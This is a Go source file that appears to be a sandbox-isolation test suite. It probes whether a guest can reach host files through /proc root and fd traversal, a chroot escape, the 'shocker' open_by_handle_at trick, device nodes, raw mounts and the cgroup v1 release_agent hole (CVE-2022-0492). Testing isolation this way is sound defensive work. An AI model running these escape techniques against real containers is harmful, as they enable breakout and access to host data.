package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"

	"golang.org/x/sys/unix"
)

// fileRows are about the host's files, and what is mounted or could be.
func fileRows(*outside) []row {
	rows := []row{
		{"read-host-file", "file", func(o *outside) (bool, string) { return o.read(o.file) }},
		{"read-host-file-above-root", "file", func(o *outside) (bool, string) {
			return o.read(strings.Repeat("/..", 32) + o.file)
		}},
		{"read-host-file-through-init", "file", func(o *outside) (bool, string) {
			return o.read("/proc/1/root" + strings.Repeat("/..", 32) + o.file)
		}},
		{"read-host-file-through-process", "pid", func(o *outside) (bool, string) {
			return o.read(fmt.Sprint("/proc/", o.pid, "/root", o.file))
		}},
		{"read-host-file-through-descriptors", "file", func(o *outside) (bool, string) {
			return o.readThroughProcesses("fd")
		}},
		{"read-host-file-through-cwd", "file", func(o *outside) (bool, string) { return o.readThroughProcesses("cwd") }},
		{"leave-chroot", "file", leaveChroot},
		{"see-host-mounts", "file", func(o *outside) (bool, string) {
			b, err := os.ReadFile("/proc/self/mountinfo")
			if err != nil {
				return false, err.Error()
			}
			for line := range strings.Lines(string(b)) {
				// If the guest's root is mounted elsewhere too, that mount is the host's.
				if f := strings.Fields(line); len(f) > 4 {
					if reached, detail := o.read(filepath.Join(f[4], o.file)); reached {
						return true, detail
					}
				}
			}
			return false, "none of the mounts has the file"
		}},
		{"open-by-handle", "", openByHandle},
		{"make-block-device", "", func(*outside) (bool, string) { return makeNode(unix.S_IFBLK, 8, 0) }},
		{"make-memory-device", "", func(*outside) (bool, string) { return makeNode(unix.S_IFCHR, 1, 1) }},
	}
	for _, dev := range []string{"mem", "port", "kmem", "kmsg", "sda", "vda", "nvme0n1", "loop-control", "loop0", "mapper/control", "kvm", "vhost-net"} {
		rows = append(rows, row{"open-dev-" + strings.ReplaceAll(dev, "/", "-"), "", func(*outside) (bool, string) {
			fd, err := unix.Open("/dev/"+dev, unix.O_RDWR|unix.O_CLOEXEC, 0)
			if err == nil {
				unix.Close(fd)
			}
			return resultOf(err, "opened")
		}})
	}
	for _, m := range []struct{ fstype, source string }{
		{"ext4", "/dev/vda"}, {"ext4", "/dev/sda1"}, {"xfs", "/dev/vda"}, {"squashfs", "/dev/loop0"},
		{"debugfs", "none"}, {"tracefs", "none"}, {"securityfs", "none"}, {"devtmpfs", "none"},
		{"configfs", "none"}, {"efivarfs", "none"}, {"nfs", "127.0.0.1:/"}, {"fuseblk", "/dev/vda"},
	} {
		rows = append(rows, row{"mount-" + m.fstype + strings.ReplaceAll(strings.TrimPrefix(m.source, "none"), "/", "-"), "",
			func(*outside) (bool, string) { return tryMount(m.source, m.fstype) }})
	}
	return append(rows,
		row{"change-cgroup-v1", "", changeCgroup1},
		row{"lock-host-device", "", func(*outside) (bool, string) {
			// A node shared with others is an inode of a devtmpfs; one of the guest's own
			// belongs to its root.
			var st unix.Stat_t
			if err := unix.Stat("/dev/null", &st); err != nil {
				return false, err.Error()
			}
			own, err := os.ReadFile("/proc/self/uid_map")
			if err != nil {
				return true, err.Error()
			}
			var inside, base, count int
			fmt.Sscan(string(own), &inside, &base, &count)
			return base == 0 || st.Uid != 0, fmt.Sprint("/dev/null is of user ", st.Uid)
		}},
	)
}

// changeCgroup1 mounts each hierarchy of cgroup v1 that there is, which a guest
// may, and tries to change it: by making a cgroup, by moving out of the one that it is
// in, and by setting the program that the host's root runs when a cgroup is
// left (CVE-2022-0492).
func changeCgroup1(*outside) (bool, string) {
	table, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return false, err.Error()
	}
	dir, err := os.MkdirTemp("", "attack-")
	if err != nil {
		return false, err.Error()
	}
	defer os.Remove(dir)
	mounted := 0
	for line := range strings.Lines(string(table)) {
		f := strings.SplitN(strings.TrimSpace(line), ":", 3)
		if len(f) != 3 || f[0] == "0" {
			continue
		}
		options := f[1]
		if strings.HasPrefix(options, "name=") {
			options = "none," + options
		}
		if unix.Mount("none", dir, "cgroup", 0, options) != nil {
			continue
		}
		mounted++
		reached := ""
		if err := unix.Mkdir(dir+"/attack", 0o755); err == nil {
			os.Remove(dir + "/attack")
			reached = "a cgroup was made"
		}
		for _, file := range []string{"cgroup.procs", "tasks", "release_agent", "notify_on_release"} {
			if fd, err := unix.Open(dir+"/"+file, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(fd)
				reached = file + " opened for writing"
			}
		}
		if err := unix.Unmount(dir, unix.MNT_DETACH); err != nil {
			return true, err.Error()
		}
		if reached != "" {
			return true, options + ": " + reached
		}
	}
	return false, fmt.Sprint("nothing can be changed in ", mounted, " hierarchies")
}

// read reports whether the host's file is at a path.
func (o *outside) read(path string) (bool, string) {
	b, err := os.ReadFile(path)
	if err != nil {
		return false, err.Error()
	}
	if o.secret != "" && !strings.Contains(string(b), o.secret) {
		return false, path + " is another file"
	}
	return true, path + " read"
}

// readThroughProcesses looks for the host's file behind a link of every visible
// process.
func (o *outside) readThroughProcesses(link string) (bool, string) {
	procs, err := filepath.Glob("/proc/[0-9]*/" + link)
	if err != nil {
		return false, err.Error()
	}
	tried := 0
	for _, p := range procs {
		places := []string{p}
		if link == "fd" {
			fds, err := os.ReadDir(p)
			if err != nil {
				continue
			}
			places = places[:0]
			for _, fd := range fds {
				places = append(places, filepath.Join(p, fd.Name()))
			}
		}
		for _, place := range places {
			tried++
			// Not filepath.Join: the dots have to reach the kernel.
			if reached, detail := o.read(place + strings.Repeat("/..", 32) + o.file); reached {
				return true, detail
			}
		}
	}
	return false, fmt.Sprintf("not behind any of %d", tried)
}

// leaveChroot is the oldest way: a chroot below the current directory leaves
// the process above its root. It stays in the mount namespace, which has to
// end at the guest's root.
func leaveChroot(o *outside) (bool, string) {
	dir, err := os.MkdirTemp("/", "attack-")
	if err != nil {
		return false, err.Error()
	}
	defer os.Remove(dir)
	// A thread of its own, thrown away: Go's threads share root and directory.
	type answer struct {
		reached bool
		detail  string
	}
	ch := make(chan answer)
	go func() {
		runtime.LockOSThread()
		if err := unix.Unshare(unix.CLONE_FS); err != nil {
			ch <- answer{false, "unshare: " + err.Error()}
			return
		}
		if err := unix.Chroot(dir); err != nil {
			ch <- answer{false, "chroot: " + err.Error()}
			return
		}
		for range 64 {
			if err := unix.Chdir(".."); err != nil {
				ch <- answer{false, "chdir: " + err.Error()}
				return
			}
		}
		if err := unix.Chroot("."); err != nil {
			ch <- answer{false, "chroot: " + err.Error()}
			return
		}
		reached, detail := o.read(o.file)
		ch <- answer{reached, detail}
	}()
	a := <-ch
	return a.reached, a.detail
}

// openByHandle asks for inode 2, the root of an ext4 ("shocker", 2014).
func openByHandle(*outside) (bool, string) {
	dir, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false, err.Error()
	}
	defer unix.Close(dir)
	handle := unix.NewFileHandle(1, binary.NativeEndian.AppendUint64(nil, 2))
	fd, err := unix.OpenByHandleAt(dir, handle, unix.O_RDONLY)
	if err == nil {
		unix.Close(fd)
		return true, "inode 2 opened"
	}
	if errors.Is(err, unix.EPERM) || errors.Is(err, unix.EACCES) {
		return false, err.Error()
	}
	return true, "allowed, though: " + err.Error()
}

func makeNode(kind uint32, major, minor uint32) (bool, string) {
	path := fmt.Sprintf("/attack-node-%d", os.Getpid())
	err := unix.Mknod(path, kind|0o600, int(unix.Mkdev(major, minor)))
	if err != nil {
		return false, err.Error()
	}
	defer os.Remove(path)
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err == nil {
		unix.Close(fd)
		return true, "made and opened"
	}
	// Made, but on a mount with nodev, or there is no such device.
	return errors.Is(err, unix.ENXIO) || errors.Is(err, unix.ENODEV), "made, not opened: " + err.Error()
}

func tryMount(source, fstype string) (bool, string) {
	dir, err := os.MkdirTemp("", "attack-")
	if err != nil {
		return false, err.Error()
	}
	defer os.Remove(dir)
	switch err := unix.Mount(source, dir, fstype, unix.MS_RDONLY, ""); {
	case err == nil:
	case errors.Is(err, unix.EPERM), errors.Is(err, unix.EACCES), errors.Is(err, unix.ENODEV), errors.Is(err, unix.ENOENT),
		errors.Is(err, unix.ENXIO), errors.Is(err, unix.ENOTBLK):
		return false, err.Error()
	default: // it looked at the device
		return true, "allowed, though: " + err.Error()
	}
	if err := unix.Unmount(dir, unix.MNT_DETACH); err != nil {
		return true, "mounted, and not to be unmounted: " + err.Error()
	}
	return true, "mounted"
}
